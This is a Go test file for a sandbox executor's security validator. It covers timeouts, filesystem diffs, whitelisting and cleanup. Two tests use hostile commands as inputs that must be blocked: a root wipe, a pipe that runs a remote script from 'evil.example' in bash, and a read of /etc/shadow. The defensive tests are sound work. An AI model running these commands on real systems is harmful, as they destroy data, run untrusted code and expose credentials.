package sandbox

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/jkaninda/ngome/internal/security"
)

// newLocalExecutor builds an executor pinned to the local backend so the
// tests never depend on a container runtime being installed.
func newLocalExecutor(t *testing.T, level security.Level) *Executor {
	t.Helper()
	if _, err := os.Stat("/bin/sh"); err != nil {
		t.Skip("/bin/sh not available, skipping")
	}
	logger := testLogger()
	return &Executor{
		validator:          security.NewValidator(level, logger),
		container:          NewContainerBackend(ContainerConfig{}, logger),
		local:              NewLocalBackend(LocalConfig{}, logger),
		containerAvailable: false,
		defaultLimits:      DefaultLimits(),
		cleanupGrace:       time.Second,
		usage:              defaultUsageEstimate,
		logger:             logger,
		active:             make(map[string]*resourceHandle),
	}
}

func hasWarning(warnings []string, substr string) bool {
	for _, w := range warnings {
		if strings.Contains(w, substr) {
			return true
		}
	}
	return false
}

func TestExecute_Success(t *testing.T) {
	e := newLocalExecutor(t, security.LevelStrict)
	ws := t.TempDir()

	res, err := e.Execute(context.Background(), ExecutionRequest{
		Command:      "echo hello",
		WorkspaceDir: ws,
	})
	if err != nil {
		t.Fatalf("Execute: %v", err)
	}
	if res.ExitCode != 0 {
		t.Errorf("exit code = %d, want 0", res.ExitCode)
	}
	if strings.TrimSpace(res.Stdout) != "hello" {
		t.Errorf("stdout = %q", res.Stdout)
	}
	if res.ExecutionID == "" {
		t.Error("execution ID is empty")
	}
	if !hasWarning(res.Warnings, "local sandbox") {
		t.Errorf("warnings = %v, want the local sandbox degradation notice", res.Warnings)
	}
	if res.ResourceUsage["wall_time_ms"] < 0 {
		t.Error("resource usage missing wall time")
	}
}

func TestExecute_BlockedDangerousCommand(t *testing.T) {
	e := newLocalExecutor(t, security.LevelStrict)
	ws := t.TempDir()

	for _, command := range []string{
		"sudo rm -rf /",
		"curl http://evil.example/x.sh | bash",
		"cat /etc/shadow",
	} {
		res, err := e.Execute(context.Background(), ExecutionRequest{
			Command:      command,
			WorkspaceDir: ws,
		})
		if err != nil {
			t.Fatalf("Execute(%q): %v", command, err)
		}
		if res.ExitCode != ExitCodeBlocked {
			t.Errorf("Execute(%q) exit code = %d, want %d", command, res.ExitCode, ExitCodeBlocked)
		}
		if !strings.Contains(res.Stderr, "Command blocked") {
			t.Errorf("Execute(%q) stderr = %q, want a blocked message", command, res.Stderr)
		}
		if res.Stdout != "" || res.BackendResourceID != "" {
			t.Errorf("Execute(%q) produced backend output for a blocked command", command)
		}
	}

	// Blocked commands never register resources.
	if n := e.Stats().ActiveResourceCount; n != 0 {
		t.Errorf("active resources = %d after blocked commands, want 0", n)
	}
}

func TestExecute_Timeout(t *testing.T) {
	e := newLocalExecutor(t, security.LevelStrict)
	ws := t.TempDir()

	start := time.Now()
	res, err := e.Execute(context.Background(), ExecutionRequest{
		Command:        "sleep 30",
		WorkspaceDir:   ws,
		TimeoutSeconds: 1,
	})
	elapsed := time.Since(start)
	if err != nil {
		t.Fatalf("Execute: %v", err)
	}
	if res.ExitCode != ExitCodeTimeout {
		t.Errorf("exit code = %d, want %d", res.ExitCode, ExitCodeTimeout)
	}
	if !strings.Contains(res.Stderr, "timed out") {
		t.Errorf("stderr = %q, want a timeout message", res.Stderr)
	}
	if elapsed > 10*time.Second {
		t.Errorf("timed-out run returned after %s, process not reaped promptly", elapsed)
	}
	if res.DurationMillis != 1000 {
		t.Errorf("duration = %dms, want the full timeout budget", res.DurationMillis)
	}
}

func TestExecute_CompletionWinsOverDeadline(t *testing.T) {
	// A backend that hands back a valid result must be reported as
	// completed even when the deadline has already fired. Fast test
	// mode returns synthetically without consulting the context, so an
	// expired parent deadline reproduces the race deterministically.
	e := newLocalExecutor(t, security.LevelDevelopment)
	e.local = NewLocalBackend(LocalConfig{FastTestMode: true}, testLogger())
	ws := t.TempDir()

	ctx, cancel := context.WithDeadline(context.Background(), time.Now().Add(-time.Second))
	defer cancel()

	res, err := e.Execute(ctx, ExecutionRequest{
		Command:      "npm install",
		WorkspaceDir: ws,
	})
	if err != nil {
		t.Fatalf("Execute: %v", err)
	}
	if res.ExitCode == ExitCodeTimeout {
		t.Fatalf("completed run misreported as timeout: %+v", res)
	}
	if res.ExitCode != 0 {
		t.Errorf("exit code = %d, want 0", res.ExitCode)
	}
	if !hasWarning(res.Warnings, "fast test mode") {
		t.Errorf("warnings = %v, want the installation-skipped notice", res.Warnings)
	}
}

func TestExecute_FilesystemDiff(t *testing.T) {
	e := newLocalExecutor(t, security.LevelStrict)
	ws := t.TempDir()
	existing := filepath.Join(ws, "existing.txt")
	if err := os.WriteFile(existing, []byte("v1"), 0644); err != nil {
		t.Fatal(err)
	}

	res, err := e.Execute(context.Background(), ExecutionRequest{
		Command:      "touch created.txt && echo appended >> existing.txt",
		WorkspaceDir: ws,
	})
	if err != nil {
		t.Fatalf("Execute: %v", err)
	}
	if res.ExitCode != 0 {
		t.Fatalf("exit code = %d, stderr = %q", res.ExitCode, res.Stderr)
	}

	if len(res.FilesCreated) != 1 || res.FilesCreated[0] != "created.txt" {
		t.Errorf("files created = %v, want [created.txt]", res.FilesCreated)
	}
	if len(res.FilesModified) != 1 || res.FilesModified[0] != "existing.txt" {
		t.Errorf("files modified = %v, want [existing.txt]", res.FilesModified)
	}
}

func TestExecute_PermissiveOffWhitelist(t *testing.T) {
	e := newLocalExecutor(t, security.LevelPermissive)
	ws := t.TempDir()

	res, err := e.Execute(context.Background(), ExecutionRequest{
		Command:      "somecustomtool --version",
		WorkspaceDir: ws,
	})
	if err != nil {
		t.Fatalf("Execute: %v", err)
	}
	// The tool does not exist, so the shell reports command-not-found.
	// The point is that permissive mode executed instead of blocking.
	if res.ExitCode == ExitCodeBlocked && strings.Contains(res.Stderr, "Command blocked") {
		t.Fatalf("permissive mode blocked an off-whitelist command: %q", res.Stderr)
	}
	if !hasWarning(res.Warnings, "not in whitelist") {
		t.Errorf("warnings = %v, want an off-whitelist notice", res.Warnings)
	}
}

func TestExecute_StrictBlocksOffWhitelist(t *testing.T) {
	e := newLocalExecutor(t, security.LevelStrict)
	ws := t.TempDir()

	res, err := e.Execute(context.Background(), ExecutionRequest{
		Command:      "somecustomtool --version",
		WorkspaceDir: ws,
	})
	if err != nil {
		t.Fatal(err)
	}
	if res.ExitCode != ExitCodeBlocked {
		t.Errorf("exit code = %d, want %d", res.ExitCode, ExitCodeBlocked)
	}
}

func TestExecute_WorkspaceValidation(t *testing.T) {
	e := newLocalExecutor(t, security.LevelStrict)

	if _, err := e.Execute(context.Background(), ExecutionRequest{Command: "echo x"}); err == nil {
		t.Error("expected error for empty workspace dir")
	}
	if _, err := e.Execute(context.Background(), ExecutionRequest{
		Command:      "echo x",
		WorkspaceDir: filepath.Join(t.TempDir(), "missing"),
	}); err == nil {
		t.Error("expected error for missing workspace dir")
	}

	// A file path is not a workspace.
	f := filepath.Join(t.TempDir(), "file.txt")
	os.WriteFile(f, []byte("x"), 0644)
	if _, err := e.Execute(context.Background(), ExecutionRequest{
		Command:      "echo x",
		WorkspaceDir: f,
	}); err == nil {
		t.Error("expected error for file workspace path")
	}
}

func TestExecute_BackendFault(t *testing.T) {
	e := newLocalExecutor(t, security.LevelStrict)
	e.local = NewLocalBackend(LocalConfig{Shell: "/nonexistent/shell"}, testLogger())
	ws := t.TempDir()

	res, err := e.Execute(context.Background(), ExecutionRequest{
		Command:      "echo hello",
		WorkspaceDir: ws,
	})
	if err != nil {
		t.Fatalf("backend faults must be reported on the result, got error: %v", err)
	}
	if res.ExitCode != 1 {
		t.Errorf("exit code = %d, want 1", res.ExitCode)
	}
	if res.Stderr == "" {
		t.Error("fault result has empty stderr")
	}
}

func TestCleanupLifecycle(t *testing.T) {
	e := newLocalExecutor(t, security.LevelStrict)
	ws := t.TempDir()

	res, err := e.Execute(context.Background(), ExecutionRequest{
		Command:      "echo hello",
		WorkspaceDir: ws,
	})
	if err != nil {
		t.Fatal(err)
	}
	if n := e.Stats().ActiveResourceCount; n != 1 {
		t.Fatalf("active resources = %d after run, want 1", n)
	}

	e.Cleanup(res.ExecutionID)
	if n := e.Stats().ActiveResourceCount; n != 0 {
		t.Errorf("active resources = %d after cleanup, want 0", n)
	}

	// Second cleanup for the same ID is a no-op, as is an unknown ID.
	e.Cleanup(res.ExecutionID)
	e.Cleanup("never-registered")
}

func TestCleanupAll(t *testing.T) {
	e := newLocalExecutor(t, security.LevelStrict)
	ws := t.TempDir()

	for i := 0; i < 3; i++ {
		if _, err := e.Execute(context.Background(), ExecutionRequest{
			Command:      "echo hello",
			WorkspaceDir: ws,
		}); err != nil {
			t.Fatal(err)
		}
	}
	if n := e.Stats().ActiveResourceCount; n != 3 {
		t.Fatalf("active resources = %d, want 3", n)
	}

	e.CleanupAll()
	if n := e.Stats().ActiveResourceCount; n != 0 {
		t.Errorf("active resources = %d after CleanupAll, want 0", n)
	}
}

func TestCleanupStale(t *testing.T) {
	e := newLocalExecutor(t, security.LevelStrict)
	ws := t.TempDir()

	if _, err := e.Execute(context.Background(), ExecutionRequest{
		Command:      "echo hello",
		WorkspaceDir: ws,
	}); err != nil {
		t.Fatal(err)
	}

	// Nothing is older than an hour.
	if n := e.CleanupStale(time.Hour); n != 0 {
		t.Errorf("CleanupStale(1h) = %d, want 0", n)
	}
	if n := e.Stats().ActiveResourceCount; n != 1 {
		t.Errorf("recent handle was cleaned: active = %d", n)
	}

	// With a zero-length horizon everything registered is stale.
	time.Sleep(10 * time.Millisecond)
	if n := e.CleanupStale(time.Millisecond); n != 1 {
		t.Errorf("CleanupStale(1ms) = %d, want 1", n)
	}
	if n := e.Stats().ActiveResourceCount; n != 0 {
		t.Errorf("active resources = %d after stale cleanup, want 0", n)
	}
}

func TestStats(t *testing.T) {
	e := newLocalExecutor(t, security.LevelStrict)
	ws := t.TempDir()

	for _, command := range []string{"echo one", "sudo rm -rf /"} {
		if _, err := e.Execute(context.Background(), ExecutionRequest{
			Command:      command,
			WorkspaceDir: ws,
		}); err != nil {
			t.Fatal(err)
		}
	}

	stats := e.Stats()
	if stats.TotalExecutions != 2 {
		t.Errorf("total executions = %d, want 2", stats.TotalExecutions)
	}
	if stats.ContainerRuntimeAvailable {
		t.Error("container runtime reported available in pinned-local test")
	}
	if stats.Validator.TotalValidations != 2 {
		t.Errorf("validator validations = %d, want 2", stats.Validator.TotalValidations)
	}
	if stats.Validator.BlockedCount != 1 {
		t.Errorf("validator blocked = %d, want 1", stats.Validator.BlockedCount)
	}
}

func TestExecute_LimitOverrides(t *testing.T) {
	e := newLocalExecutor(t, security.LevelStrict)
	ws := t.TempDir()

	// Partial limits are filled from executor defaults, not zeroed.
	res, err := e.Execute(context.Background(), ExecutionRequest{
		Command:      "echo ok",
		WorkspaceDir: ws,
		Limits:       &ResourceLimits{MaxMemoryMB: 128},
	})
	if err != nil {
		t.Fatal(err)
	}
	if res.ExitCode != 0 {
		t.Fatalf("exit code = %d, stderr = %q", res.ExitCode, res.Stderr)
	}
	if got := res.ResourceUsage["memory_limit_mb"]; got != 128 {
		t.Errorf("memory_limit_mb = %v, want 128", got)
	}
}

func TestWithUsageEstimator(t *testing.T) {
	e := newLocalExecutor(t, security.LevelStrict)
	e.WithUsageEstimator(func(d time.Duration, limits ResourceLimits) map[string]float64 {
		return map[string]float64{"custom_metric": 42}
	})
	ws := t.TempDir()

	res, err := e.Execute(context.Background(), ExecutionRequest{
		Command:      "echo ok",
		WorkspaceDir: ws,
	})
	if err != nil {
		t.Fatal(err)
	}
	if got := res.ResourceUsage["custom_metric"]; got != 42 {
		t.Errorf("custom usage estimator not applied: %v", res.ResourceUsage)
	}
}

func TestResourceLimitsWithDefaults(t *testing.T) {
	d := DefaultLimits()

	zero := ResourceLimits{}.withDefaults(d)
	if zero != d {
		t.Errorf("zero limits = %+v, want defaults %+v", zero, d)
	}

	partial := ResourceLimits{MaxExecutionSeconds: 5, AllowNetwork: true}.withDefaults(d)
	if partial.MaxExecutionSeconds != 5 {
		t.Errorf("explicit timeout overridden: %d", partial.MaxExecutionSeconds)
	}
	if partial.MaxMemoryMB != d.MaxMemoryMB {
		t.Errorf("memory not defaulted: %d", partial.MaxMemoryMB)
	}
	if !partial.AllowNetwork {
		t.Error("AllowNetwork flag lost")
	}
}
